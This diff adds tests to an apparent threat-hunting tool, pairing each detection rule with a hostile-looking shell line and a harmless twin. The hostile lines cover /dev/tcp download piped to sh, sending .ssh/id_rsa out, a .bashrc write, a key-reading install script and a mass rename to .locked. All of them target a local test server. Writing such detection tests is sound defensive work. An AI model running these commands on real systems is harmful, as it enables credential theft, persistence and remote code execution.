@@ -7,6 +7,7 @@ import json
 import os
 import random
 import re
+import shutil
 import socket
 import subprocess
 import sys
@@ -317,6 +318,86 @@ def test_no_finding_is_lost_because_a_run_is_not_read(
         read += hunter.chosen[1]
         found += len(every)
     assert found > 30 and read < 15 * 150 / 2, (found, read)
+
+
+SERVER = """
+import socket, subprocess, sys
+listener = socket.create_server(("127.0.0.1", 0))
+client = socket.create_connection(listener.getsockname())
+peer, _ = listener.accept()
+if sys.argv[1] == "before": subprocess.run(["sh", "-c", "true"])
+client.sendall(b"x")
+peer.recv(1)
+if sys.argv[1] == "after": subprocess.run(["sh", "-c", "true"])
+"""
+NPM = "#!/bin/sh\ncase $1 in install) sh package/$2.sh ;; esac\n"
+
+
+def cases(port: int) -> dict[str, tuple[str, str]]:
+    """For each rule of the program a line of the shell that it finds, and a harmless one like it.
+
+    The lines of a rule follow each other.
+    """
+    download = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3'"
+    upload = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat >&3'"
+    documents = "for i in $(seq 25); do {}; done"
+    return {
+        "startup-file-written": ("echo x >> .bashrc", "echo x >> bashrc; cat .bashrc"),
+        "download-run-by-shell": (f"{download} | sh", f"{download} | cat"),
+        "secret-sent": (f"{upload} < .ssh/id_rsa", f"{upload} < .ssh/id_rsa.pub"),
+        "shell-started-by-server": ("python3 server.py after", "python3 server.py before"),
+        "build-input-from-network": (
+            f"{download} > x.h; cp x.h y.c; ./cc1 y.c",
+            f"{download} > x.h; ./cc1 z.c",
+        ),
+        "install-script-reads-keys": ("./npm install bad", "./npm install good"),
+        "deleted-after-sent": (f"{upload} < in; rm in", f"{upload} < kept; rm other"),
+        "rename-storm": (
+            documents.format("mv doc$i doc$i.locked"),
+            documents.format("mv doc$i.locked text$i"),
+        ),
+    }
+
+
+def test_each_rule_of_the_program_finds_its_cases_though_other_runs_are_not_read(
+    machine: Machine, lake: Path, hunter: Hunter
+) -> None:
+    for name, text in {
+        "server.py": SERVER,
+        "npm": NPM,
+        "package/bad.sh": "cat .ssh/id_rsa > /dev/null\n",
+        "package/good.sh": "cat .ssh/known_hosts > /dev/null\n",
+        ".ssh/id_rsa": "secret\n",
+        ".ssh/id_rsa.pub": "public\n",
+        ".ssh/known_hosts": "hosts\n",
+        "kept": "x\n",
+        "other": "x\n",
+        "z.c": "\n",
+        **{f"doc{at}": "x\n" for at in range(1, 26)},
+    }.items():
+        file = machine.directory / name
+        file.parent.mkdir(exist_ok=True)
+        file.write_text(text)
+    (machine.directory / "npm").chmod(0o755)
+    # The program that a compiler's name stands for reads its argument.
+    shutil.copy(shutil.which("cat") or "/bin/cat", machine.directory / "cc1")
+    runs: dict[str, str] = {}
+    with server() as port:
+        for rule, lines in cases(port).items():
+            runs[rule], _ = (machine.record(f"{line} 2>/dev/null") for line in lines)
+    machine.record("sort kept > sorted")
+    (machine.directory / "sorted").write_text("changed outside of all recordings\n")
+    runs["output-changed-outside"] = machine.record("cat sorted")
+    machine.ship(lake)
+    listed = json.loads(hunter.run("hunt", "--list", "--json").stdout)
+    assert sorted(runs) == sorted(one["rule"] for one in listed)
+    for rule, run in runs.items():
+        words = ["hunt", "--lake", str(lake), "--rule", rule]
+        request = hunter.request(*words)
+        every = hunter.answered(lake, replace(request, condition="true"), *words)
+        found = hunter.answered(lake, request, *words)
+        assert found == every and {json.loads(one)["run"] for one in found} == {run}, rule
+        assert hunter.chosen[1] < hunter.chosen[0], rule
 
 
 def test_a_rule_that_names_one_path_reads_the_runs_that_have_it(
